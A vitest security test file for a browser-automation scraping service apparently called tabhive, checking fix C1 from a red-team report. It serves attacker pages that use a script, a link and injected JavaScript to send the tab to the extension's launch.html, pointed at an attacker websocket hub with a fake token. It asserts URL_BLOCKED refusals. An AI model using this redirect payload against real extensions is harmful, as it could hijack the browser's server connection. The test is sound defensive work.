import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXTENSION_ID } from '../../shared/extension-identity';
import { startTestTabhive } from '../helpers/start-test-tabhive';

/**
 * A page that sends its task's tab to the extension's own start page (launch.html, C1 of the
 * red-team report): the browser refuses the page, and the task says so at once with URL_BLOCKED,
 * rather than trying to capture a page no web content may open, failing, and being retried into a
 * 500. The attacker's page is on 127.0.0.2, the one private address the operator allowed.
 */

const ATTACKER_ADDRESS = '127.0.0.2';
const LAUNCH_PAGE = `chrome-extension://${EXTENSION_ID}/launch.html#server=ws%3A%2F%2F${ATTACKER_ADDRESS}%3A9%2Fbrowser-hub&token=evil`;

let attacker: Server;
let tabhive: Awaited<ReturnType<typeof startTestTabhive>>;

const attackerUrl = (pathname: string) =>
  `http://${ATTACKER_ADDRESS}:${(attacker.address() as AddressInfo).port}${pathname}`;

beforeAll(async () => {
  attacker = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://attacker');
    const page = (body: string) =>
      response
        .writeHead(200, { 'content-type': 'text/html' })
        .end(`<!doctype html><html><head><title>Prize</title></head><body>${body}</body></html>`);
    switch (url.pathname) {
      case '/navigate':
        page(`<h1>Moving</h1><script>location.href = ${JSON.stringify(LAUNCH_PAGE)};</script>`);
        return;
      case '/link':
        page(`<h1>Claim</h1><a id="a" href="${LAUNCH_PAGE}">claim</a>`);
        return;
      default:
        page('<h1>Attacker home</h1>');
    }
  });
  await new Promise<void>((resolve) => attacker.listen(0, ATTACKER_ADDRESS, resolve));
  tabhive = await startTestTabhive({
    browsers: 1,
    env: { ALLOW_PRIVATE_NETWORKS: 'false', ALLOWED_PRIVATE_HOSTS: ATTACKER_ADDRESS },
  });
});
afterAll(async () => {
  await tabhive?.stop();
  await new Promise((resolve) => attacker?.close(resolve));
});

function expectRefused(response: { status: number; json: unknown }) {
  expect(response.json).toMatchObject({ success: false, code: 'URL_BLOCKED' });
  expect(response.status).toBe(403);
}

describe('a task whose page goes to the extension start page', () => {
  it('is refused when a script navigates the tab', async () => {
    expectRefused(
      await tabhive.post('/v2/scrape', { url: attackerUrl('/navigate'), maxAge: 0, waitFor: 1_500 }),
    );
  });

  it("is refused when the caller's executeJavascript navigates the tab", async () => {
    expectRefused(
      await tabhive.post('/v2/scrape', {
        url: attackerUrl('/'),
        maxAge: 0,
        actions: [
          { type: 'executeJavascript', script: `location.href = ${JSON.stringify(LAUNCH_PAGE)}` },
          { type: 'wait', milliseconds: 1_500 },
        ],
      }),
    );
  });

  it('is refused when a clicked link navigates the tab', async () => {
    expectRefused(
      await tabhive.post('/v2/scrape', {
        url: attackerUrl('/link'),
        maxAge: 0,
        actions: [
          { type: 'click', selector: '#a' },
          { type: 'wait', milliseconds: 1_500 },
        ],
      }),
    );
  });

  it('leaves the browser serving its own server', async () => {
    const { status, json } = await tabhive.post('/v2/scrape', { url: attackerUrl('/'), maxAge: 0 });
    expect(status).toBe(200);
    expect(json.data.markdown).toContain('Attacker home');
  });
});
